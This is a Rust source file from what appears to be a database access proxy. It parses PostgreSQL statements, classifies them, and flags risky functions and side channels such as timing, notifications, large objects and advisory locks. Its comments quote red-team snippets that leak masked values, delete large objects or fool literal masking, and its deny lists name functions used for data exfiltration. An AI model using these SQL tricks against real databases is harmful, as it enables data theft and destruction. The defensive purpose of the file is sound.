//! SQL analysis: statement kinds, tables, functions and WHERE clauses, read with PostgreSQL's
//! own grammar (`pg_query`, which compiles the server's parser).
//!
//! The reading is the server's reading under the lexing settings hoop pins for every session
//! (`standard_conforming_strings = on`, `client_encoding = UTF8`, `backslash_quote` at its
//! default): a statement that would change one of them is flagged ([`PINNED_SETTING`]) so that the
//! protocol adapter refuses it. Everything the parser does not fully read is `unknown`.

use super::Sql;
use serde_json::{Map, Value};

/// Longest SQL text analysed; longer texts are `unknown` (policies decide) rather than parsed.
pub const MAX_ANALYZED_LEN: usize = 4 << 20;

/// Settings that change how PostgreSQL splits statement text into tokens: hoop reads text as
/// the server does only while these stay at the values hoop pinned for the session.
pub const LEXING_SETTINGS: [&str; 3] = ["standard_conforming_strings", "client_encoding", "backslash_quote"];

/// The kind given to a statement that changes (or may change) a lexing setting.
pub const PINNED_SETTING: &str = "pinned_setting";

/// The kind given to a text that PostgreSQL would split differently under another lexing
/// setting (see [`LEXING_SETTINGS`]): refused, as hoop cannot know which reading will run.
pub const AMBIGUOUS: &str = "ambiguous";

/// The kind given to a call of a function that runs SQL it receives as a string
/// (`query_to_xml`, `table_to_xml`, `ts_stat`, `dblink`, ...): hoop cannot read that SQL.
pub const DYNAMIC_SQL: &str = "dynamic_sql";

/// The kind given to a change of relations after which a write may reach rows its count leaves
/// out, or other relations than its names denote before the change commits: a foreign key with
/// a referential action, a partition or child table attached, a relation renamed or moved to
/// another schema, a view made or replaced, triggers or rules made or switched, and any
/// `ALTER TABLE` not known to leave those alone. Until such a change commits, the catalog hoop
/// reads does not show it.
pub const REACH_CHANGE: &str = "reach_change";

/// The kind given to `ALTER COLUMN … TYPE text` (or `varchar`) without `USING`: harmless for
/// a column whose values print the same under any session setting, a rewrite of every value
/// for others (`float8` under `extra_float_digits = -15` keeps one digit: red-team Postgres
/// round 124), which only the catalog tells apart (see [`retyped_columns`]).
pub const RETYPE_TEXT: &str = "retype_text";

/// The columns an `ALTER COLUMN … TYPE` to text changes in `text`: the relation as spelt
/// (its parts joined by dots) and the column.
pub fn retyped_columns(text: &str) -> Vec<(String, String)> {
    let Ok(tree) = pg_query::parse(text, pg_query::ParserOptions::DEFAULT) else { return Vec::new() };
    let mut out = Vec::new();
    for raw in &tree.protobuf.stmts {
        let Some(node) = raw.stmt.as_deref() else { continue };
        let Ok(v) = serde_json::to_value(node) else { continue };
        let Some(alter) = tagged(&v, "AlterTableStmt") else { continue };
        let Some(rel) = alter.get("relation").and_then(Value::as_object).and_then(range_var_parts) else { continue };
        for cmd in alter.get("cmds").and_then(Value::as_array).into_iter().flatten() {
            let Some(c) = tagged(cmd, "AlterTableCmd") else { continue };
            let sub = c.get("subtype").and_then(Value::as_i64).unwrap_or(0);
            if sub == pg_query::protobuf::AlterTableType::AtAlterColumnType as i64
                && c.get("def").is_some_and(widens_to_text)
                && let Some(col) = c.get("name").and_then(Value::as_str)
            {
                out.push((rel.join("."), col.to_string()));
            }
        }
    }
    out
}

/// `ALTER TABLE` subcommands that change neither what a write to the table reaches nor what
/// its name denotes (a foreign key added by one is seen as such where its constraint is read).
const REACH_KEEPING: &[&str] = &[
    "AT_AddColumn", "AT_ColumnDefault", "AT_CookedColumnDefault", "AT_DropNotNull", "AT_SetNotNull", "AT_AlterColumnType", "AT_AddConstraint",
    "AT_AddIndex", "AT_AddIndexConstraint", "AT_ReAddConstraint", "AT_SetStatistics", "AT_SetOptions", "AT_ResetOptions", "AT_SetStorage",
    "AT_SetCompression", "AT_ValidateConstraint", "AT_ClusterOn", "AT_DropCluster", "AT_SetRelOptions", "AT_ResetRelOptions",
    "AT_ReplaceRelOptions", "AT_ReplicaIdentity", "AT_AlterColumnGenericOptions", "AT_AddIdentity", "AT_SetIdentity", "AT_DropIdentity",
    "AT_AlterConstraint",
];

/// The kind given to writes whose row count the server does not report for them (inside a CTE or
/// `EXPLAIN ANALYZE`).
pub const NESTED_WRITE: &str = "nested_write";

/// The kind given to statements that reach into other sessions: their statement text
/// (`pg_stat_activity`), signals (`pg_terminate_backend`), locks that block them.
pub const OTHER_SESSIONS: &str = "other_sessions";

/// Functions that act on other sessions, or take locks that outlive the transaction (a
/// session-level advisory lock blocks every other session asking for its key until this one
/// ends).
const OTHER_SESSION_FUNCTIONS: &[&str] = &[
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_signal_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_advisory_lock",
    "pg_advisory_lock_shared",
    "pg_try_advisory_lock",
    "pg_try_advisory_lock_shared",
];

/// The kind given to calls of built-in functions that change data outside any relation's rows:
/// large objects, sequences, and server state (replication slots, the WAL). The server answers such a statement with its rows' count
/// (`SELECT 1`), not with what the calls changed, so neither a WHERE rule nor the written-rows
/// ceiling can see them (red-team Postgres round 96: `select count(lo_unlink(oid)) from
/// pg_largeobject_metadata` dropped every large object, recorded as a plain select).
pub const FUNCTION_WRITE: &str = "function_write";

/// Built-in functions that create, change or drop large objects, set sequences, or change the
/// server's state.
const WRITING_FUNCTIONS: &[&str] = &[
    "lo_unlink",
    "lo_put",
    "lowrite",
    "lo_truncate",
    "lo_truncate64",
    "lo_from_bytea",
    "lo_create",
    "lo_creat",
    "lo_import",
    "lo_export",
    "setval",
    // Server state a privileged upstream role may change (an operator's
    // `allow_privileged_role`): replication slots and origins, the WAL, a standby's promotion.
    "pg_create_physical_replication_slot",
    "pg_create_logical_replication_slot",
    "pg_drop_replication_slot",
    "pg_copy_physical_replication_slot",
    "pg_copy_logical_replication_slot",
    "pg_replication_slot_advance",
    "pg_logical_slot_get_changes",
    "pg_logical_slot_get_binary_changes",
    "pg_replication_origin_create",
    "pg_replication_origin_drop",
    "pg_replication_origin_advance",
    "pg_switch_wal",
    "pg_create_restore_point",
    "pg_promote",
    "pg_backup_start",
    "pg_backup_stop",
    "pg_file_write",
    "pg_file_unlink",
    "pg_file_rename",
];

/// Whether a relation (its bare name) is a cumulative statistics view: `pg_stat_*`,
/// `pg_statio_*` (column statistics, `pg_stats`, are [`STATISTICS`]).
fn is_statistics_relation(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    n.starts_with("pg_stat_") || n.starts_with("pg_statio_")
}

/// Whether a function (its bare name) reads or flushes the cumulative statistics
/// (`pg_stat_get_*`, `pg_stat_force_next_flush`, `pg_stat_reset*`, ...).
fn is_statistics_function(name: &str) -> bool {
    name.to_ascii_lowercase().starts_with("pg_stat_")
}

/// The largest literal `LIMIT` under which an unfiltered `FOR UPDATE`/`FOR SHARE` is taken for
/// a worker claiming rows (`... FOR UPDATE SKIP LOCKED LIMIT 10`), not a lock on a table.
const MAX_LOCKED_ROWS: i64 = 100;

/// PostgreSQL 15's built-in set-returning functions that take values as arguments: one of
/// them, wherever it is called, returns as many rows as its arguments say, so a count of its
/// rows can spell out a value it was given (`generate_series(1, ascii(email))`).
pub(crate) const SET_RETURNING_FUNCTIONS: &[&str] = &[
    "aclexplode",
    "generate_series",
    "generate_subscripts",
    "json_array_elements",
    "json_array_elements_text",
    "json_each",
    "json_each_text",
    "json_object_keys",
    "json_populate_recordset",
    "json_to_recordset",
    "jsonb_array_elements",
    "jsonb_array_elements_text",
    "jsonb_each",
    "jsonb_each_text",
    "jsonb_object_keys",
    "jsonb_path_query",
    "jsonb_path_query_tz",
    "jsonb_populate_recordset",
    "jsonb_to_recordset",
    "pg_options_to_table",
    "pg_partition_ancestors",
    "pg_partition_tree",
    "pg_snapshot_xip",
    "regexp_matches",
    "regexp_split_to_table",
    "string_to_table",
    "ts_debug",
    "ts_parse",
    "ts_stat",
    "ts_token_type",
    "txid_snapshot_xip",
    "unnest",
];

/// Functions that carry their arguments out of the statement, to the client or another session
/// by a path result masking does not see (settings, notifications, large objects, sequences,
/// locks, time). Lineage refuses masked values passed to them; in DDL (a column default, a check) they
/// run later, as code.
pub(crate) const SINK_FUNCTIONS: &[&str] = &[
    // Time is a channel too: a sleep as long as a value spells it out.
    "pg_sleep",
    "pg_sleep_for",
    "pg_sleep_until",
    "set_config",
    "pg_notify",
    "lo_from_bytea",
    "lo_put",
    "lo_create",
    "lowrite",
    "setval",
    "nextval",
    "pg_advisory_lock",
    "pg_advisory_lock_shared",
    "pg_advisory_xact_lock",
    "pg_advisory_xact_lock_shared",
    "pg_try_advisory_lock",
    "pg_try_advisory_lock_shared",
    "pg_try_advisory_xact_lock",
    "pg_try_advisory_xact_lock_shared",
    "pg_logical_emit_message",
    // Open the sequence their argument names and keep its lock to the transaction's end, where
    // `pg_locks` (or another session's wait) shows which one (red-team round 11).
    "currval",
    "pg_sequence_last_value",
    "pg_sequence_parameters",
    // Large objects opened, read or dropped by an oid computed from a value: a descriptor stays
    // open to the transaction's end, numbered in call order, and a later `loread` of it says
    // which object was chosen (red-team round 12).
    "lo_open",
    "lo_get",
    "lo_import",
    "lo_export",
    "lo_unlink",
    "lo_truncate",
    "lo_truncate64",
    "loread",
    "lo_lseek",
    "lo_lseek64",
    "lo_close",
    "lo_creat",
    // The session's random generator keeps the seed, and two `random()` values later give it
    // back whole (red-team round 13).
    "setseed",
];

/// The kind given to a statement naming a relation whose schema or name holds a dot
/// (`"sch.ema"."t.b"`): hoop names relations `schema.table`, so it could not tell which
/// relation that is, nor which of its columns are masked.
pub const DOTTED_NAME: &str = "dotted_name";

/// The kind given to a statement that changes what a built-in type's name denotes: it creates
/// or renames a relation or type to the name of a text type (the session's temporary schema
/// is searched before `pg_catalog` for type names, and a relation's name is its row type's), or
/// puts a schema before `pg_catalog` in `search_path`. A later `email::text` would then cast to
/// the agent's type, whose checks and parsing can fail on the value (PG red-team round 113).
pub const SHADOWING_NAME: &str = "shadowing_name";

/// The names of PostgreSQL's text types as a cast names them (`::text`, `::name`, `::"char"`;
/// `varchar` and `char(n)` come qualified with `pg_catalog`).
pub const TEXT_TYPE_NAMES: &[&str] = &["text", "varchar", "bpchar", "char", "name"];

/// Built-in type names a cast may write without a schema, which no relation or type of an
/// agent may take (a type's name is read in the session's temporary schema first): the text
/// types, and those the size counting trusts not to pad their value (`growth.rs`; PG red-team
/// round 119). `bpchar` and `bit` pad to their declared length, which is counted.
pub const BUILT_IN_TYPE_NAMES: &[&str] = &[
    "text", "varchar", "bpchar", "char", "name", "bit", "varbit", "int2", "int4", "int8", "smallint", "integer", "int", "bigint", "float4", "float8",
    "real", "numeric", "decimal", "bool", "boolean", "date", "time", "timetz", "timestamp", "timestamptz", "interval", "json", "jsonb", "uuid", "bytea",
    "inet", "cidr", "macaddr", "macaddr8", "oid", "xml", "tsvector", "tsquery", "jsonpath", "pg_lsn", "regclass", "regtype", "regproc",
    "regprocedure", "regoper", "regoperator", "regnamespace", "regrole", "regconfig", "regdictionary", "regcollation", "int4range", "int8range",
    "numrange", "tsrange", "tstzrange", "daterange",
];

/// Whether setting `var` to `values` takes another role's rights: `role` or
/// `session_authorization` to anything but `none` (the login role).
fn changes_role(var: &str, values: &[String]) -> bool {
    matches!(var, "role" | "session_authorization") && !values.iter().all(|v| v.trim().eq_ignore_ascii_case("none"))
}

/// Whether a `search_path` value (`a, "pg_catalog"`, as the server reads the list) names a
/// schema before `pg_catalog`: names there then shadow the built-in ones.
pub fn search_path_shadows_catalog(value: &str) -> bool {
    value.split(',').map(|s| s.trim().trim_matches('"').to_ascii_lowercase()).position(|s| s == "pg_catalog").is_some_and(|at| at > 0)
}

/// The kind given to `set_config` with a value computed at run time.
pub const COMPUTED_SETTING: &str = "computed_setting";

/// The kind given to `pg_notify` with a channel or payload computed at run time: one statement
/// can send a notification per row, each up to 8000 bytes, to a session that sends nothing.
pub const COMPUTED_NOTIFY: &str = "computed_notify";

/// The kind given to reads of column statistics (`pg_stats`), which hold sample values.
pub const STATISTICS: &str = "statistics";

/// The kind given to statements that change roles, grants, ownership or row security.
pub const PRIVILEGES: &str = "privileges";

/// Functions that run SQL given as text (or read a relation named by a string).
const DYNAMIC_SQL_FUNCTIONS: &[&str] = &[
    "query_to_xml",
    "query_to_xmlschema",
    "query_to_xml_and_xmlschema",
    "cursor_to_xml",
    "cursor_to_xmlschema",
    "table_to_xml",
    "table_to_xmlschema",
    "table_to_xml_and_xmlschema",
    "schema_to_xml",
    "schema_to_xmlschema",
    "schema_to_xml_and_xmlschema",
    "database_to_xml",
    "database_to_xmlschema",
    "database_to_xml_and_xmlschema",
    "ts_stat",
    "ts_rewrite",
    "dblink",
    "dblink_exec",
    "dblink_open",
    "dblink_fetch",
    "dblink_send_query",
    "dblink_get_result",
];

/// The kind added to every statement that creates or changes code the server runs later
/// (functions, procedures, triggers, rules, event triggers, languages, extensions, `LOAD`).
pub const STORED_CODE: &str = "code";

/// Analyses `text` (one or more statements) into the SQL section of an action.
///
/// Text the parser cannot read still yields an action, with `kinds == ["unknown"]`
/// (or `["do"]` for an anonymous code block), so that policies decide what happens to it.
///
/// ```
/// let sql = hoop_core::action::sql::analyze("copy t from stdin; drop table accounts");
/// assert_eq!(sql.kinds, ["copy", "drop"]);
/// assert_eq!(sql.tables, ["t", "accounts"]);
/// ```
pub fn analyze(text: &str) -> Sql {
    let key = shape_key(text);
    if let Some(shape) = key.as_deref().and_then(cached) {
        return Sql { text: text.to_string(), ..shape };
    }
    let (sql, cacheable) = parse(text);
    if let (Some(key), true) = (key, cacheable) {
        remember(key, &sql);
    }
    sql
}

/// Whether `text` is exactly one statement, as the server's parser reads it.
///
/// ```
/// assert!(hoop_core::action::sql::single_statement("copy t from stdin"));
/// assert!(!hoop_core::action::sql::single_statement("copy t from stdin; select 1"));
/// ```
pub fn single_statement(text: &str) -> bool {
    parseable(text) && pg_query::parse(text, pg_query::ParserOptions::DEFAULT).is_ok_and(|r| r.protobuf.stmts.len() == 1)
}

/// Whether `masked` has fewer of what delimits or ends SQL (comment marks, quotes, dollar signs,
/// semicolons, line ends) than `body`: masking took one away.
fn removes_syntax(body: &str, masked: &str) -> bool {
    ["*/", "/*", "--", "'", "\"", "$", ";", "\n", "\r"].iter().any(|s| masked.matches(s).count() < body.matches(s).count())
}

/// `text` with `mask` applied to its literals and comments only: keywords, identifiers and
/// operators stay as written, so a reviewer (and the recording) sees the statement's structure
/// whatever the detectors match. Text the scanner cannot split is masked whole.
///
/// ```
/// let shown = hoop_core::action::sql::mask_literals("SELECT \"ann@corp.example\" FROM t WHERE e = 'ann@corp.example'", |s| s.replace("ann@corp.example", "[x]").into());
/// assert_eq!(shown, "SELECT \"ann@corp.example\" FROM t WHERE e = '[x]'");
/// ```
pub fn mask_literals<'a>(text: &'a str, mask: impl Fn(&str) -> std::borrow::Cow<'_, str>) -> std::borrow::Cow<'a, str> {
    use pg_query::protobuf::Token as T;
    let Ok(scan) = pg_query::scan(text) else { return std::borrow::Cow::Owned(mask(text).into_owned()) };
    let mut out = String::with_capacity(text.len());
    let mut last = 0usize;
    let mut changed = false;
    for tok in &scan.tokens {
        let kind = T::try_from(tok.token).unwrap_or(T::Nul);
        if !matches!(kind, T::Sconst | T::Usconst | T::Bconst | T::Xconst | T::Iconst | T::Fconst | T::SqlComment | T::CComment) {
            continue;
        }
        let (Ok(start), Ok(end)) = (usize::try_from(tok.start), usize::try_from(tok.end)) else { continue };
        let (Some(before), Some(lit)) = (text.get(last..start), text.get(start..end)) else { continue };
        out.push_str(before);
        // Only the inside of a literal or comment is masked, never its delimiters: a detector
        // that took `*/` into a masked value made the rest of the statement read as a comment
        // to the reviewer (red-team round 51: `/*password=*/or(id>0)--*/`).
        let (open, close) = delimiters(lit, kind);
        let (Some(head), Some(body), Some(tail)) = (lit.get(..open), lit.get(open..lit.len() - close), lit.get(lit.len() - close..)) else {
            // (Not reached: the delimiters fit inside the literal.) Masked whole, as before.
            let m = mask(lit);
            changed |= m != lit;
            out.push_str(&m);
            last = end;
            continue;
        };
        // An escape string is read as the server reads it (red-team identity round 85:
        // `E'a\x40example.com'` is an address, which masking missed spelled so).
        // (The scanner's token may start at the quote, after the `E`.)
        let e_prefix = |t: &str| t.ends_with(['E', 'e']) && !t.get(..t.len() - 1).is_some_and(|p| p.ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '$'));
        let m = match (kind, (head.starts_with(['E', 'e']) || e_prefix(before)) && body.contains('\\')) {
            (T::Sconst, true) => {
                let decoded = unescape(body);
                let shown = mask(&decoded).into_owned();
                if shown != decoded { std::borrow::Cow::Owned(shown) } else { mask(body) }
            }
            _ => mask(body),
        };
        if m != body {
            changed = true;
            // A masked value holding the closing delimiter (or, in a `--` comment, a line
            // end) would end the literal early in what the reviewer reads.
            // Nor may it take away what delimits code inside the literal: a `DO` block's body is
            // code, and a value `*/` masked there showed its DELETE as inside a comment (identity
            // red-team round 112). Such a literal is shown whole as one mark.
            let closes = (!tail.is_empty() && m.contains(tail)) || (kind == T::SqlComment && m.contains(['\n', '\r'])) || m.contains('\'') || removes_syntax(body, &m);
            out.push_str(head);
            out.push_str(if closes { "[REDACTED]" } else { &m });
            out.push_str(tail);
        } else {
            out.push_str(lit);
        }
        last = end;
    }
    if !changed {
        return std::borrow::Cow::Borrowed(text);
    }
    out.push_str(text.get(last..).unwrap_or_default());
    std::borrow::Cow::Owned(out)
}

/// The text of an escape string's body (`E'…'`) as PostgreSQL reads it: `\n`, `\t`, `\b`,
/// `\f`, `\r`, octal `\ooo`, hex `\xhh`, `\uXXXX`, `\UXXXXXXXX`, any other character after
/// a backslash as itself, and `''` as a quote. An escape that names no character is kept as
/// written.
fn unescape(body: &str) -> String {
    let mut out = String::with_capacity(body.len());
    let mut chars = body.chars().peekable();
    let digits = |chars: &mut std::iter::Peekable<std::str::Chars<'_>>, radix: u32, max: usize| {
        let mut v = String::new();
        while v.len() < max && chars.peek().is_some_and(|c| c.is_digit(radix)) {
            v.extend(chars.next());
        }
        v
    };
    while let Some(c) = chars.next() {
        match c {
            '\'' if chars.peek() == Some(&'\'') => {
                chars.next();
                out.push('\'');
            }
            '\\' => match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some('r') => out.push('\r'),
                Some('b') => out.push('\u{8}'),
                Some('f') => out.push('\u{c}'),
                Some(d @ '0'..='7') => {
                    let rest = digits(&mut chars, 8, 2);
                    let code = u32::from_str_radix(&format!("{d}{rest}"), 8).unwrap_or(0);
                    out.extend(char::from_u32(code));
                }
                Some(x @ ('x' | 'u' | 'U')) => {
                    let want = match x {
                        'x' => 2,
                        'u' => 4,
                        _ => 8,
                    };
                    let hex = digits(&mut chars, 16, want);
                    match u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                        Some(ch) if !hex.is_empty() => out.push(ch),
                        _ => {
                            out.push('\\');
                            out.push(x);
                            out.push_str(&hex);
                        }
                    }
                }
                Some(other) => out.push(other),
                None => out.push('\\'),
            },
            c => out.push(c),
        }
    }
    out
}

/// The lengths of a literal's (or comment's) opening and closing delimiters: `'…'`, `E'…'`,
/// `U&'…'`, `$tag$…$tag$`, `/*…*/`, `--…`; none for a number.
fn delimiters(lit: &str, kind: pg_query::protobuf::Token) -> (usize, usize) {
    use pg_query::protobuf::Token as T;
    match kind {
        T::CComment => (2, if lit.len() >= 4 && lit.ends_with("*/") { 2 } else { 0 }),
        T::SqlComment => (2.min(lit.len()), 0),
        T::Iconst | T::Fconst => (0, 0),
        _ if lit.starts_with('$') => {
            let tag = lit.get(1..).and_then(|r| r.find('$')).map_or(0, |i| i + 2);
            (tag, if lit.len() >= 2 * tag && tag > 0 { tag } else { 0 })
        }
        _ => match lit.find('\'') {
            Some(i) => (i + 1, usize::from(lit.len() > i + 1 && lit.ends_with('\''))),
            None => (0, 0),
        },
    }
}

/// The session-level names a text creates, uses or drops, in the order they appear: SQL
/// `PREPARE`/`EXECUTE`/`DEALLOCATE` and cursor `DECLARE`/`FETCH`/`MOVE`/`CLOSE`.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Names {
    /// `PREPARE name AS ...`: each name with the analysis of the whole `PREPARE` statement.
    pub prepared: Vec<(String, Sql)>,
    /// `EXECUTE name`.
    pub executed: Vec<String>,
    /// `DEALLOCATE name`; `None` for `DEALLOCATE ALL` (and `DISCARD ALL`).
    pub deallocated: Vec<Option<String>>,
    /// `DECLARE name CURSOR FOR ...`: each name with the analysis of the `DECLARE` statement,
    /// and whether it is `WITH HOLD` (outlives its transaction).
    pub declared: Vec<(String, Sql, bool)>,
    /// `FETCH`/`MOVE ... name`.
    pub fetched: Vec<String>,
    /// `CLOSE name`; `None` for `CLOSE ALL`.
    pub closed: Vec<Option<String>>,
}

impl Names {
    /// Whether the text names nothing of the session's.
    pub fn is_empty(&self) -> bool {
        self == &Names::default()
    }
}

/// The session-level names in `text` (see [`Names`]); empty for text that does not parse.
///
/// Only texts whose `kinds` include `prepare`, `execute`, `deallocate`, `declare`, `fetch`,
/// `move`, `close_portal` or `discard` need this second reading.
pub fn names(text: &str) -> Names {
    let owned = text.to_string();
    super::parser::run(move || names_here(&owned)).unwrap_or_default()
}

fn names_here(text: &str) -> Names {
    let mut n = Names::default();
    if !parseable(text) {
        return n;
    }
    let Ok(tree) = pg_query::parse(text, pg_query::ParserOptions::DEFAULT) else { return n };
    use pg_query::NodeEnum as N;
    for raw in &tree.protobuf.stmts {
        let Some(node) = raw.stmt.as_deref().and_then(|s| s.node.as_ref()) else { continue };
        // The statement's own text, for analysing what it prepares or declares.
        let own = || {
            let start = usize::try_from(raw.stmt_location).unwrap_or(0);
            let len = usize::try_from(raw.stmt_len).unwrap_or(0);
            let end = if len == 0 { text.len() } else { start.saturating_add(len).min(text.len()) };
            analyze(text.get(start..end).unwrap_or(text))
        };
        // `EXPLAIN EXECUTE p`, `CREATE TABLE … AS EXECUTE p` (and `EXPLAIN ANALYZE` of that)
        // run `p` too.
        let mut node = node;
        for _ in 0..2 {
            let inner = match node {
                N::ExplainStmt(e) => e.query.as_deref(),
                N::CreateTableAsStmt(c) => c.query.as_deref(),
                _ => None,
            };
            match inner.and_then(|q| q.node.as_ref()) {
                Some(q @ (N::ExecuteStmt(_) | N::CreateTableAsStmt(_))) => node = q,
                _ => break,
            }
        }
        match node {
            N::PrepareStmt(p) => n.prepared.push((p.name.clone(), own())),
            N::ExecuteStmt(e) => n.executed.push(e.name.clone()),
            N::DeallocateStmt(d) => n.deallocated.push((!d.isall).then(|| d.name.clone())),
            N::DiscardStmt(_) => n.deallocated.push(None),
            // CURSOR_OPT_HOLD in PostgreSQL's parsenodes.h.
            N::DeclareCursorStmt(d) => n.declared.push((d.portalname.clone(), own(), d.options & 0x0020 != 0)),
            N::FetchStmt(f) => n.fetched.push(f.portalname.clone()),
            N::ClosePortalStmt(c) => n.closed.push((!c.portalname.is_empty()).then(|| c.portalname.clone())),
            _ => {}
        }
    }
    n
}

/// Texts longer than this are not fingerprinted (and so always parsed).
const MAX_SHAPE_LEN: usize = 2048;
/// Shapes remembered per thread; a full cache is cleared (statement shapes repeat, so it refills fast).
const MAX_SHAPES: usize = 2048;

thread_local! {
    // Per thread, not shared: every statement looks its shape up, and a lock shared by the
    // connection threads would be contended on every one of them.
    static SHAPES: std::cell::RefCell<std::collections::HashMap<Box<[u8]>, Sql>> = Default::default();
}

fn cached(key: &[u8]) -> Option<Sql> {
    SHAPES.with_borrow(|m| m.get(key).cloned())
}

fn remember(key: Vec<u8>, sql: &Sql) {
    let shape = Sql { text: String::new(), params: Vec::new(), ..sql.clone() };
    SHAPES.with_borrow_mut(|m| {
        if m.len() >= MAX_SHAPES {
            m.clear();
        }
        m.insert(key.into_boxed_slice(), shape);
    });
}

/// The statement's shape: its text with numeric and plain string literals replaced by `?`.
///
/// Literals never change what a statement is (its kinds, tables, WHERE clauses), so statements
/// of one shape share one analysis, and `SELECT ... WHERE id = 1` and `... = 2` are parsed
/// once. Analyses that do depend on a literal (settings, `set_config`, COPY and EXPLAIN
/// options) are never cached. The lexer is deliberately narrow: anything it does not fully
/// understand (comments, dollar quoting, escape strings, backslashes, prefixed literals)
/// yields `None`, and such text is always parsed in full.
pub(crate) fn shape_key(text: &str) -> Option<Vec<u8>> {
    if text.len() > MAX_SHAPE_LEN {
        return None;
    }
    let b = text.as_bytes();
    let mut out = Vec::with_capacity(text.len());
    let mut i = 0;
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c >= 0x80;
    while let Some(&c) = b.get(i) {
        match c {
            b'\\' => return None,
            b'-' if b.get(i + 1) == Some(&b'-') => return None,
            b'/' if b.get(i + 1) == Some(&b'*') => return None,
            // `$1` parameters are kept; any other `$` may open a dollar-quoted string.
            b'$' if b.get(i + 1).is_some_and(u8::is_ascii_digit) && !i.checked_sub(1).and_then(|p| b.get(p)).is_some_and(|p| ident(*p)) => {
                out.push(b'$');
                i += 1;
                while let Some(d) = b.get(i).filter(|d| d.is_ascii_digit()) {
                    out.push(*d);
                    i += 1;
                }
            }
            b'$' => return None,
            b'\'' => {
                // A literal right after a word (E'..', B'..', X'..', U&'..', typed 'date' '..') is not plain.
                if i.checked_sub(1).and_then(|p| b.get(p)).is_some_and(|p| ident(*p) || *p == b'&') {
                    return None;
                }
                i += 1;
                loop {
                    match b.get(i)? {
                        // Backslashes mean different things under standard_conforming_strings.
                        b'\\' => return None,
                        b'\'' if b.get(i + 1) == Some(&b'\'') => i += 2,
                        b'\'' => break,
                        _ => i += 1,
                    }
                }
                i += 1;
                out.push(b'?');
            }
            b'"' => {
                // Quoted identifiers are part of the shape.
                let end = b.get(i + 1..)?.iter().position(|x| *x == b'"')? + i + 1;
                out.extend_from_slice(b.get(i..=end)?);
                i = end + 1;
            }
            d if d.is_ascii_digit() && !i.checked_sub(1).and_then(|p| b.get(p)).is_some_and(|p| ident(*p)) => {
                while b.get(i).is_some_and(|x| x.is_ascii_alphanumeric() || *x == b'.') {
                    i += 1;
                }
                out.push(b'?');
            }
            _ => {
                out.push(c);
                i += 1;
            }
        }
    }
    Some(out)
}

/// Parses `text` with the server's grammar (on a parser thread); the flag says whether the
/// analysis holds for every text of the same shape.
fn parse(text: &str) -> (Sql, bool) {
    let owned = text.to_string();
    super::parser::run(move || parse_here(&owned))
        .unwrap_or_else(|| (Sql { text: text.to_string(), kinds: vec!["unknown".into()], ..Sql::default() }, true))
}

fn parse_here(text: &str) -> (Sql, bool) {
    let (mut on, cacheable) = read(text, pg_query::ParserOptions::DEFAULT);
    // Backslashes are the only bytes whose meaning depends on standard_conforming_strings (and,
    // after a multibyte lead byte, on client_encoding). A setting changed where hoop cannot see
    // it (until the server reports it) must not change what the text is: it is read both ways,
    // and a text that means two things is refused.
    if on.parsed && text.contains('\\') {
        let after_multibyte = text.as_bytes().windows(2).any(|w| matches!(w, [a, b'\\'] if *a >= 0x80));
        let (off, _) = read(text, pg_query::ParserOptions::DISABLE_STANDARD_CONFORMING_STRINGS);
        // libpg_query puts its lexing settings back only when a parse succeeds, and `scan`
        // lexes with whatever this thread was left with: a text that failed to parse the other
        // way (a `U&''` string) left the next texts on this parser thread lexed with
        // standard_conforming_strings off, and read or refused by turns (red-team round 82 on
        // Postgres). An empty parse, which succeeds, puts them back.
        let _ = pg_query::parse("", pg_query::ParserOptions::DEFAULT);
        let differs = off.parsed
            && (off.kinds != on.kinds || off.tables != on.tables || off.functions != on.functions || off.has_where != on.has_where || off.copy != on.copy);
        if after_multibyte || differs {
            on.kinds.push(AMBIGUOUS.into());
        }
    }
    (on, cacheable)
}

/// Functions an agent's stored expression (view, default, check, generated column, index,
/// statistics) may call: ones that only compute a value from their arguments, the clock, or
/// the rows an aggregate or window is given. Anything else stored is code (an allow-list:
/// administrative functions run as whoever later reads the view).
const STORABLE_FUNCTIONS: &[&str] = &[
    // Text.
    "lower", "upper", "btrim", "ltrim", "rtrim", "trim", "length", "char_length", "character_length", "octet_length", "bit_length",
    "substr", "substring", "left", "right", "concat", "concat_ws", "replace", "translate", "initcap", "lpad", "rpad", "repeat",
    "reverse", "split_part", "strpos", "position", "starts_with", "format", "md5", "regexp_replace", "regexp_match",
    "regexp_like", "to_char", "to_number", "to_date", "to_timestamp", "quote_ident", "quote_literal", "overlay",
    // Numbers.
    "abs", "round", "floor", "ceil", "ceiling", "trunc", "mod", "div", "power", "sqrt", "exp", "ln", "log", "sign", "width_bucket",
    // Time.
    "now", "statement_timestamp", "transaction_timestamp", "date_trunc", "date_part", "extract", "age", "make_date",
    "make_time", "make_timestamp", "make_timestamptz", "make_interval", "timezone", "date_bin", "isfinite",
    // JSON and arrays.
    "to_json", "to_jsonb", "json_build_object", "jsonb_build_object", "json_build_array", "jsonb_build_array",
    "json_extract_path_text", "jsonb_extract_path_text", "json_extract_path", "jsonb_extract_path", "jsonb_typeof",
    "json_typeof", "jsonb_array_length", "json_array_length", "array_length", "array_position", "cardinality",
    "array_to_string", "string_to_array", "unnest", "generate_series",
    // Aggregates and windows.
    "count", "sum", "avg", "min", "max", "bool_and", "bool_or", "every", "array_agg", "string_agg", "json_agg", "jsonb_agg",
    "json_object_agg", "jsonb_object_agg", "stddev", "stddev_pop", "stddev_samp", "variance", "var_pop", "var_samp",
    "percentile_cont", "percentile_disc", "mode", "row_number", "rank", "dense_rank", "percent_rank", "cume_dist",
    "ntile", "lag", "lead", "first_value", "last_value", "nth_value",
    // Values.
    "gen_random_uuid", "random",
];

/// Whether `name` (as the statement spells it, `schema.function`) is a built-in in
/// [`STORABLE_FUNCTIONS`]: unqualified, or in `pg_catalog` (which the search path reads first).
fn storable_function(name: &str) -> bool {
    let base = name.strip_prefix("pg_catalog.").unwrap_or(name);
    !base.contains('.') && STORABLE_FUNCTIONS.contains(&base)
}

/// Tokens analysed at most, punctuation aside: a parse tree costs a few KiB per token in
/// memory, so a long chain of small tokens (`id = id AND id = id ...`) is refused rather than
/// parsed (a single large literal is one token); at this bound, about 110 MB and a quarter of
